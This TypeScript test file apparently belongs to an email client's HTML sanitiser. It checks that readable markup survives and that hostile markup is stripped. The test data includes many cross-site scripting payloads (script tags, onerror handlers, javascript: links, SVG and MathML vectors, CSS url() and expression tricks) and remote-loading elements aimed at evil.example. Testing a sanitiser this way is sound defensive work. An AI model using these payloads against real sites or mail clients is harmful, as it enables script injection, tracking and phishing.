import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { describe, it } from 'node:test'
import { showable, withinLimits } from './html-limits.ts'
import { linksIn } from './links.ts'
import { parseMessage } from './parse-message.ts'
import { pictureType } from './picture-type.ts'
import { plainText } from './plain-text.ts'
import { linkTarget, referredContentIds, safeHtml } from './safe-html.ts'
import { snippetOf } from './snippet.ts'

const none = new Map<string, string>()
const safe = (html: string) => safeHtml(html, none)
const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='

describe('the HTML of a mail', () => {
  it('keeps what makes it pleasant to read', () => {
    const html =
      '<table width="600"><tr><td style="padding:8px 12px;color:#16202e"><h1>Hello</h1><p align="center">b<b>o</b>ld</p></td></tr></table>'
    assert.equal(safe(html), html)
  })

  for (const [what, html] of [
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals and pieces', '<SCR<script>IPT>alert(1)</SCR</script>IPT>'],
    ['an event handler', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
    ['an event handler on a picture', '<img src=x onerror=alert(1)>'],
    ['a javascript link', '<a href="javascript:alert(1)">x</a><a href="java\nscript:alert(1)">x</a>'],
    ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['SVG', '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
    ['MathML', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'],
    [
      'frames and plug-ins',
      '<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=//evil.example>',
    ],
    ['forms', '<form action=//evil.example><input name=card><button>Pay</button></form>'],
    [
      'base, meta, link',
      '<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
    ],
    ['style sheets', '<style>@import url(//evil.example); p { background: url(//evil.example) }</style>'],
    [
      'styles that load',
      '<p style="background:url(//evil.example);background-color:URL(//evil.example);color:u\\72l(//evil.example);color:url(evil)">x</p>',
    ],
    ['styles that compute', '<p style="width:expression(alert(1));color:var(--x)">x</p>'],
    ['styles that cover the page', '<div style="position:fixed;inset:0;z-index:9;opacity:0">x</div>'],
    [
      'remote pictures',
      '<img src="https://evil.example/a.png"><img src="//evil.example/a.png"><img srcset="//evil.example/a 2x">',
    ],
    [
      'remote backgrounds',
      '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b"></td></tr></table>',
    ],
    [
      'media',
      '<video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio><source src=//evil.example>',
    ],
    ['SVG as a picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    [
      'text areas that hide markup',
      '<textarea><img src=x onerror=alert(1)></textarea><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
  ] as const)
    it(`loses ${what}`, () => {
      const text = safe(html)
      assert.doesNotMatch(
        text,
        /<(?!\/?(?:p|a|div|table|tbody|tr|td|span)\b)|\son\w+=|javascript|evil|url\(|expression|var\(|position|alert\(1\)"|svg/i,
      )
    })

  it('shows pictures that it brings along, and says where one is missing', () => {
    const pictures = new Map([['a b@example.org', pixel]])
    assert.match(
      safeHtml('<img src="cid:a%20b@example.org" alt="A boat">', pictures),
      /^<img src="data:image\/gif;base64,[^"]*" alt="A boat" \/>$/,
    )
    assert.equal(
      safeHtml('<img src="cid:other" alt="A <boat>">', pictures),
      '<span class="picture">Picture not loaded: A &lt;boat&gt;</span>',
    )
    assert.equal(safe('<img src="https://count.example/open.gif" width="1" height="1">'), safe('<wbr>'))
    assert.deepEqual([...referredContentIds('<img src="cid:a%20b@example.org"> CID:%zz')], ['a b@example.org', '%zz'])
  })

  it('says beside each link where it leads, whatever the link says about itself', () => {
    const text = safe(
      '<a href="https://bank.example@evil.example/x" data-host="bank.example" target="_self" rel="opener">bank.example</a>',
    )
    assert.equal(
      text,
      '<a href="https://evil.example/x" data-host="evil.example" rel="noopener noreferrer" target="_blank">bank.example</a>',
    )
    assert.deepEqual(linksIn(`${text}${text}`), [{ href: 'https://evil.example/x', host: 'evil.example' }])
    assert.equal(linkTarget('https://еxample.org/')?.host, 'xn--xample-2of.org')
    for (const address of [
      'ftp://a.example',
      'relative',
      '//a.example',
      'javascript:1',
      'blob:https://a.example/1',
      'file:///etc/passwd',
      `https://a.example/${'x'.repeat(5000)}`,
    ])
      assert.equal(linkTarget(address), null, address.slice(0, 40))
  })

  it('that would keep the sanitiser busy for long is told before it begins', () => {
    assert.equal(showable('<p>x</p>'.repeat(20_000)), true)
    assert.equal(showable('<div><!-- </div> -->'.repeat(20_001)), false)
    assert.equal(showable('x'.repeat(1_048_577)), false)
    assert.equal(showable(`${'<b>'.repeat(20_000)}${'</i>'.repeat(20_001)}`), false)
    assert.equal(withinLimits('<b>'.repeat(30_000)).length, 60_000)
    assert.equal(plainText('<i>x'.repeat(30_000)).length, 20_000)
  })

  it('loses styles that are longer than any is', () => {
    assert.equal(safe(`<p style="${'color:red;'.repeat(500)}">x</p>`), '<p>x</p>')
  })

  it('loses a style that hides what it loads on another line', () => {
    for (const value of ['red\nurl(x)', 'red\r\nurl(x)', 'red\u2028url(x)', '\nexpression\n(1)'])
      assert.doesNotMatch(safe(`<p style="color:${value}">x</p>`), /url|expression/)
  })

  it('is cut off where it is nested without end', () => {
    assert.ok(safe('<div>'.repeat(20_000)).length < 2_000)
  })

  it('of the hostile sample runs and loads nothing', async () => {
    const raw = readFileSync(new URL('../samples/Suspicious/hostile.eml', import.meta.url))
    const parsed = await parseMessage(raw)
    assert.ok('message' in parsed && parsed.message.html !== null)
    const text = safe(parsed.message.html)
    assert.match(text, /Congratulations/)
    assert.doesNotMatch(text, /<script|<svg|\son\w+=|javascript:|src="http|url\(|<form|<iframe|<base|<meta/i)
    assert.deepEqual(
      linksIn(text).map((link) => link.host),
      ['evil.example'],
    )
  })
})

describe('pictures', () => {
  it('are told by their bytes and not by their name', () => {
    assert.equal(pictureType(Buffer.from('89504e470d0a1a0a00', 'hex')), 'image/png')
    assert.equal(pictureType(Buffer.from('GIF89a')), 'image/gif')
    assert.equal(pictureType(Buffer.from('RIFF\n\u0000\u0000\u0000WEBP')), 'image/webp')
    for (const bytes of ['', '<svg onload="alert(1)">', '<html>', 'GIF88a', 'RIFF1234WAVE'])
      assert.equal(pictureType(Buffer.from(bytes)), null)
  })
})

describe('the first words of a message', () => {
  it('are those of its text without quotes, else of its HTML', () => {
    assert.equal(snippetOf({ text: 'Yes!\n> really?\n\u202eB\u0000ye', html: null }), 'Yes! B ye')
    assert.equal(
      snippetOf({ text: ' \n', html: '<style>p{}</style><p>One &amp; two</p><p>three</p>' }),
      'One & two three',
    )
    assert.equal([...snippetOf({ text: '🙂'.repeat(500), html: null })].length, 180)
  })

  it('hold no markup, whatever the HTML holds', () => {
    assert.equal(plainText('<p>1 &lt;b&gt; 2</p><script>x</script>').trim(), '1 <b> 2')
    assert.equal(plainText('&amp;lt;'), '&lt;')
  })
})
